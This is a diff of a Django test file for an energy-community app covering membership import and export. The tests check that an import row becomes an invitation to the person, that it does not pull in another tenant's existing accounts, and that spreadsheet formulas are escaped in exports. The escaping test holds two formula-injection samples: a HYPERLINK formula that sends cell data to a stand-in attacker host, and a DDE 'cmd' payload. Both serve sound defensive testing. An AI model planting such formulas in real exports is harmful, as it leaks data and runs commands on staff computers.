@@ -8,7 +8,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from tablib import Dataset
 
 from accounts.models import User
-from communities.models import Membership, MeteringPoint
+from communities.models import Membership, MembershipInvitation, MeteringPoint
 from communities.resources import MembershipResource, MeteringPointResource
 from conftest import PASSWORD
 from plants.models import Plant
@@ -73,8 +73,12 @@ def test_it_imports_members_after_confirmation(client, world):
     confirm = resp.context["confirm_form"]
     done = client.post("/admin/communities/membership/process_import/", confirm.initial)
     assert done.status_code == 302
-    anna = Membership.objects.get(user__email="anna@example.com")
-    assert anna.community == world.a.community and anna.user.full_name == "Anna Rossi"
+    # a new person is invited (and joins when they accept); a current member is updated
+    assert not Membership.objects.filter(user__email="anna@example.com").exists()
+    invitation = MembershipInvitation.objects.get(email="anna@example.com")
+    assert invitation.community == world.a.community and invitation.status == "pending"
+    assert invitation.terms["joined_at"] == "2025-02-01"
+    assert User.objects.get(email="anna@example.com").full_name == "Anna Rossi"
     assert Membership.objects.get(pk=world.a.membership.pk).member_type == "prosumer"
 
 
@@ -178,7 +182,7 @@ def test_it_imports_an_xlsx_file(client, world):
     assert resp.status_code == 200
     assert not resp.context["result"].has_validation_errors()
     client.post("/admin/communities/membership/process_import/", resp.context["confirm_form"].initial)
-    assert Membership.objects.filter(user__email="xlsx@example.com", community=world.a.community).exists()
+    assert MembershipInvitation.objects.filter(email="xlsx@example.com", community=world.a.community).exists()
 
 
 def test_the_export_is_scoped_and_in_xlsx(client, world):
@@ -197,3 +201,50 @@ def test_the_membership_export_round_trips(world):
     data = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community))
     assert data.headers[:3] == ["id", "community", "email"]
     assert sorted(data["email"]) == ["member-a@example.com", "other-a@example.com"]
+
+
+def test_an_import_row_never_pulls_in_an_existing_account_of_another_tenant(client, world, mailoutbox):
+    """Issue 8, item 2: the row becomes an invitation to the person; their membership,
+    name and data stay out of the importer's scope until they accept."""
+    login(client, world.a.vendor)
+    text = MEMBERS_HEADER + (
+        "community-a,member-b@example.com,,consumer,member,,2025-02-01\n"
+        "community-a,admin@example.com,,consumer,member,,2025-02-01\n"
+    )
+    resp = upload(client, "/admin/communities/membership/import/", text)
+    assert not resp.context["result"].has_validation_errors(), resp.context["result"].invalid_rows
+    done = client.post("/admin/communities/membership/process_import/", resp.context["confirm_form"].initial)
+    assert done.status_code == 302
+    emails = ["member-b@example.com", "admin@example.com"]
+    assert not Membership.objects.filter(community=world.a.community, user__email__in=emails).exists()
+    assert set(MembershipInvitation.objects.values_list("email", flat=True)) == {
+        "member-b@example.com", "admin@example.com"}
+    listing = client.get("/admin/communities/membership/").content.decode()
+    assert "member-b@example.com" not in listing and "admin@example.com" not in listing
+
+
+def test_exports_escape_spreadsheet_formulas(client, world):
+    """A member who names themselves `=HYPERLINK(...)` does not run a formula on the
+    computer of the staff who open the export; our own import reads the name back."""
+    world.a.member.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    world.a.member.save()
+    world.a.plant.name = "+cmd|' /C calc'!A0"
+    world.a.plant.save()
+    members = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community))
+    names = dict(zip(members["email"], members["full_name"], strict=True))
+    assert names["member-a@example.com"] == "'" + world.a.member.full_name
+    login(client, world.a.referent)
+    fields = PlantResource().get_export_order()
+    data = {"resource": "0", "format": XLSX, **{f"plantresource_{f}": "on" for f in fields}}
+    exported = client.post("/admin/plants/plant/export/", data).content
+    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert [r[0] for r in list(sheet.values)[1:]] == ["'+cmd|' /C calc'!A0"]
+    csv = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community)).csv
+    assert ",=HYPERLINK" not in csv and "'=HYPERLINK" in csv
+    # round trip: the apostrophe of our export is dropped again on import
+    again = Dataset(headers=["community", "email", "full_name", "member_type", "role", "joined_at"])
+    again.append(["community-a", "member-a@example.com", "'=1+1", "consumer", "member", ""])
+    result = MembershipResource().import_data(again, dry_run=True, user=world.a.vendor)
+    assert not result.has_validation_errors() and not result.has_errors()
